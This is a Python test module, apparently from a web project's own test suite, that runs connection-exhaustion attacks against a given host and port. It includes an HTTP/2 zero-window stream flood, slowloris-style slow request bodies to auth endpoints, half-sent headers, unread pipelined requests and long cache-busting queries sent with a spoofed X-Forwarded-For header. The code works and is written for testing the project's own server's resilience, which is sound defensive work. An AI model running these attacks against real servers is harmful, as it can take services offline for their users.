"""Attacks by connections: each opens many, keeps them for some seconds, and closes them.

`python -m tests.attack.connections NAME HOST:PORT COUNT SECONDS` runs one in a process of its own.
"""

import asyncio
import secrets
import socket
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.settings import SettingCodes

Address = tuple[str, int]
GET = b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n"
LIST = b"/api/events?limit=100"
UPGRADE = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAQAAAAA\r\n"
CHUNKS = b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 40
SLOW_PATHS = (b"verify", b"login", b"register", b"refresh")


def http_2() -> bytes:
    """What a client says that asks 95 times by HTTP/2 and has no room for an answer."""
    connection = H2Connection(H2Configuration())
    connection.initiate_connection()
    connection.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
    names = [(":method", "GET"), (":path", LIST.decode()), (":authority", "x"), (":scheme", "http")]
    for stream in range(1, 191, 2):
        connection.send_headers(stream, names, end_stream=True)
    return connection.data_to_send()


def slow_body(number: int) -> bytes:
    """The head of a request to auth, and the first byte of its body."""
    path = SLOW_PATHS[number % len(SLOW_PATHS)]
    head = b"POST /api/auth/%s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60\r\n\r\n{"
    return head % path


SAID: dict[str, Callable[[int], bytes]] = {
    "HTTP/2 without a window": lambda _: http_2(),
    "upgrades to HTTP/2": lambda _: GET[:-2] % LIST + UPGRADE + b"\r\n",
    "readers who never read": lambda _: GET % LIST * 150,
    "slow bodies": slow_body,
    "half heads": lambda _: GET[:20],
    "bodies that nobody reads": lambda _: GET[:-2] % LIST + CHUNKS,
}
"""What each connection of an attack sends; none reads anything."""


async def hold(address: Address, said: bytes, until: float) -> None:
    """Keep a connection busy until then; a new one follows each that the other side closes."""
    loop = asyncio.get_running_loop()
    while loop.time() < until:
        with socket.socket() as connection, suppress(OSError, TimeoutError):
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            connection.setblocking(False)
            async with asyncio.timeout_at(until):
                await loop.sock_connect(connection, address)
                await loop.sock_sendall(connection, said)
                await closed(connection)
        await asyncio.sleep(0.2)


async def closed(connection: socket.socket) -> None:
    """Wait until the other side has closed the connection, without making room for what it sends."""
    while True:
        try:
            peeked = connection.recv(1, socket.MSG_PEEK)
        except BlockingIOError:
            peeked = b"-"
        if peeked == b"" or connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            return
        await asyncio.sleep(0.2)


ATTACKER = b"X-Forwarded-For: 203.0.113.9\r\n"


async def long_queries(address: Address, count: int, until: float) -> None:
    """Ask for one page under ever new, long queries, from an address that is nobody else's."""
    for number in range(count):
        if asyncio.get_running_loop().time() > until:
            return
        query = secrets.token_hex(8).encode() + b"a" * (1_900 if number % 2 else 15_000)
        reader, writer = await asyncio.open_connection(*address)
        writer.write(b"GET /api/events?%s HTTP/1.1\r\nHost: x\r\n%sConnection: close\r\n\r\n" % (query, ATTACKER))
        await reader.read()
        writer.close()


async def attack(name: str, address: Address, count: int, seconds: float) -> None:
    """Run one attack."""
    until = asyncio.get_running_loop().time() + seconds
    work: list[Awaitable[None]]
    if name in SAID:
        work = [hold(address, SAID[name](number), until) for number in range(count)]
    else:
        work = [long_queries(address, count // 4, until) for _ in range(4)]
    await asyncio.gather(*work)


if __name__ == "__main__":
    host, _, port = sys.argv[2].partition(":")
    asyncio.run(attack(sys.argv[1], (host, int(port)), int(sys.argv[3]), float(sys.argv[4])))
